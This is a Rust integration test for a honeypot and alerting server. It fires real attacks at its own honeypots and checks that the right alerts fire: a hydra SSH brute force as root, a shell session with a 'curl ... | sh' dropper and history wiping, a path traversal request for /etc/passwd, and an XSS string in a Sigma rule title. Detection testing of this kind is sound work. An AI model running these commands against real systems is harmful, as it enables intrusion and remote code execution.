//! Alerts from real attacks on a real `nectar serve`: hydra's brute force
//! against the SSH honeypot raises one brute-force alert for its source (with
//! the technique, the observables and links to its events) and its final
//! login its own alert; an OpenSSH shell session and curl against the HTTP
//! honeypot raise the built-in rules and public-style Sigma rules (web-server
//! and Linux process-creation shapes) loaded from `[rules] paths`. A rule
//! title carrying markup is escaped on the alert pages; a viewer cannot change
//! an alert from the UI, and a form without the CSRF token is refused.

use std::process::Command;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::stream::wait_for_lag_zero;
use crate::util::{Server, client, token, web_login};

/// Public-rule shapes (SigmaHQ's `category: webserver` and
/// `product: linux, category: process_creation`), written for this test.
const PUBLIC_RULES: &str = r#"
title: Local file inclusion in the query <script>alert(1)</script>
id: 5b1f3a0e-2c44-4d36-9f0b-7a1f0c9e5e01
status: test
logsource:
    category: webserver
detection:
    selection:
        cs-uri-query|contains:
            - '../'
            - '/etc/passwd'
    condition: selection
level: high
tags:
    - attack.initial-access
    - attack.t1190
---
title: Curl piped into a shell
id: 0c6a8c38-96e3-4b0c-8b86-5a2b0b3e7f02
status: test
logsource:
    product: linux
    category: process_creation
detection:
    selection:
        Image|endswith: '/curl'
        CommandLine|contains: 'http'
    condition: selection
level: medium
tags:
    - attack.command-and-control
    - attack.t1105
"#;

fn alerts(url: &str, token: &str, query: &str) -> Vec<Value> {
    let body: Value = client()
        .get(format!("{url}/api/v1/alerts?{query}"))
        .bearer_auth(token)
        .send()
        .unwrap()
        .json()
        .unwrap();
    body["alerts"].as_array().cloned().unwrap_or_default()
}

/// Waits until an alert of `rule` exists (bounded), and returns it.
fn wait_for_rule(url: &str, token: &str, rule: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        wait_for_lag_zero(url, token, &["rules"]);
        let found = alerts(url, token, &format!("rule={rule}"));
        if let Some(a) = found.first() {
            return a.clone();
        }
        let all: Vec<Value> = alerts(url, token, "limit=100")
            .iter()
            .map(|a| a["rule"]["id"].clone())
            .collect();
        assert!(
            Instant::now() < deadline,
            "no alert of {rule}; alerts: {all:?}"
        );
        std::thread::sleep(Duration::from_millis(300));
    }
}

#[test]
fn attacks_raise_built_in_and_public_rule_alerts() {
    if !crate::capture::have("hydra", &["-h"])
        || !crate::capture::have("sshpass", &["-V"])
        || !crate::capture::have("curl", &["--version"])
    {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(rules.join("web")).unwrap();
    std::fs::write(rules.join("web/public.yml"), PUBLIC_RULES).unwrap();
    let config = dir.path().join("nectar.toml");
    std::fs::write(
        &config,
        format!("[rules]\npaths = [{:?}]\n", rules.display().to_string()),
    )
    .unwrap();
    std::fs::create_dir_all(&data).unwrap();
    let analyst = token(&data, "soc", "analyst");
    let server = Server::start(&data, Some(&config));
    let url = server.url.clone();
    let ssh = server.ssh_addr.clone().expect("SSH address");
    let (host, port) = ssh.rsplit_once(':').unwrap();

    // hydra: 15 wrong passwords, then the accepted one.
    let list = dir.path().join("passwords.txt");
    let mut words: Vec<String> = (1..=15).map(|i| format!("wrong{i:02}")).collect();
    words.push("123456".into());
    std::fs::write(&list, words.join("\n") + "\n").unwrap();
    let out = Command::new("timeout")
        .args(["120", "hydra", "-I", "-l", "root", "-P"])
        .arg(&list)
        .args(["-t", "4", "-s", port])
        .arg(format!("ssh://{host}"))
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("123456"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let brute = wait_for_rule(&url, &analyst, "nectar.ssh-brute-force");
    assert_eq!(brute["group"]["src_ip"], host);
    assert_eq!(brute["rule"]["techniques"][0], "T1110.001");
    assert!(brute["count"].as_u64().unwrap() >= 10, "{brute}");
    let types: Vec<&str> = brute["observables"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|o| o["type"].as_str())
        .collect();
    assert!(
        types.contains(&"ip") && types.contains(&"username"),
        "{brute}"
    );
    // One alert for the source, however many failures.
    assert_eq!(
        alerts(&url, &analyst, "rule=nectar.ssh-brute-force").len(),
        1
    );
    let detail: Value = client()
        .get(format!(
            "{url}/api/v1/alerts/{}",
            brute["id"].as_str().unwrap()
        ))
        .bearer_auth(&analyst)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert!(detail["linked_events"].as_u64().unwrap() >= 10, "{detail}");
    assert!(
        detail["events"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["kind"] == "ssh.login.failed"),
        "{detail}"
    );
    wait_for_rule(&url, &analyst, "nectar.login-after-failures");

    // A shell session: persistence, a dropper, history wiping.
    let shell = crate::capture::openssh_shell(
        &ssh,
        "root",
        "123456",
        b"crontab -l\ncurl -s http://198.51.100.9/x.sh | sh\nhistory -c\nexit\n",
    );
    assert!(!shell.is_empty());
    wait_for_rule(&url, &analyst, "nectar.shell-crontab");
    wait_for_rule(&url, &analyst, "nectar.shell-download-and-run");
    wait_for_rule(&url, &analyst, "nectar.shell-history-wipe");
    let curl_rule = wait_for_rule(&url, &analyst, "0c6a8c38-96e3-4b0c-8b86-5a2b0b3e7f02");
    assert_eq!(curl_rule["rule"]["techniques"][0], "T1105");

    // The HTTP honeypot: a traversal in the query.
    let http = server
        .printed_after("HTTP honeypot listening on ")
        .expect("HTTP honeypot address");
    let status = Command::new("curl")
        .args(["-s", "-o", "/dev/null", "-m", "10"])
        .arg(format!(
            "http://{}/index.php?page=../../../../etc/passwd",
            http.trim()
        ))
        .status()
        .unwrap();
    assert!(status.success());
    let lfi = wait_for_rule(&url, &analyst, "5b1f3a0e-2c44-4d36-9f0b-7a1f0c9e5e01");
    wait_for_rule(&url, &analyst, "nectar.http-traversal");

    // The pages: the markup in the rule title is text, never markup.
    let cookie = web_login(&server, &data);
    let page = |path: &str| {
        client()
            .get(format!("{url}{path}"))
            .header("cookie", &cookie)
            .send()
            .unwrap()
            .text()
            .unwrap()
    };
    let lfi_id = lfi["id"].as_str().unwrap();
    for path in [
        "/alerts".to_owned(),
        format!("/alerts/{lfi_id}"),
        "/rules".to_owned(),
    ] {
        let html = page(&path);
        assert!(!html.contains("<script>alert(1)"), "{path}: {html}");
        assert!(
            html.contains("&#60;script&#62;alert(1)") || html.contains("&lt;script&gt;alert(1)"),
            "{path}"
        );
    }
    // The UI's change needs the form's CSRF token.
    let refused = client()
        .post(format!("{url}/alerts/{lfi_id}"))
        .header("cookie", &cookie)
        .form(&[("action", "ack")])
        .send()
        .unwrap();
    assert_eq!(refused.status(), 403);
    let html = page(&format!("/alerts/{lfi_id}"));
    let csrf = html
        .split("name=\"csrf\" value=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap()
        .to_owned();
    let acked = client()
        .post(format!("{url}/alerts/{lfi_id}"))
        .header("cookie", &cookie)
        .form(&[("action", "ack"), ("csrf", csrf.as_str())])
        .send()
        .unwrap();
    assert_eq!(acked.status(), 303);
    let now: Value = client()
        .get(format!("{url}/api/v1/alerts/{lfi_id}"))
        .bearer_auth(&analyst)
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(now["status"], "acknowledged");
    assert_eq!(
        now["history"].as_array().unwrap().last().unwrap()["actor"],
        "admin"
    );
    // Bulk: close every filtered alert of the brute-force rule as true positives.
    let closed = client()
        .post(format!("{url}/alerts/bulk"))
        .header("cookie", &cookie)
        .form(&[
            ("csrf", csrf.as_str()),
            ("scope", "all"),
            ("back", "rule=nectar.ssh-brute-force"),
            ("action", "close"),
            ("resolution", "true_positive"),
        ])
        .send()
        .unwrap();
    assert_eq!(closed.status(), 303);
    let brute = alerts(&url, &analyst, "rule=nectar.ssh-brute-force");
    assert!(brute.iter().all(|a| a["status"] == "closed"), "{brute:?}");
}
